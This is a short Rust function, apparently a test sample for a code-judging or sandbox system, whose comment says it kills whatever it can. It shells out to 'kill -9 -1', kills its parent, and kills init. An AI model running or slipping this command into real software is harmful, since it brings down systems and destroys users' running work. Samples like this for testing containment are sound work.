// Kills whatever it can, also the processes above it.
//
// fate: judged

fn deed() {
    let _ = std::process::Command::new("sh")
        .args(["-c", "kill -9 -1; kill -9 $PPID; kill -9 1"])
        .status();
}
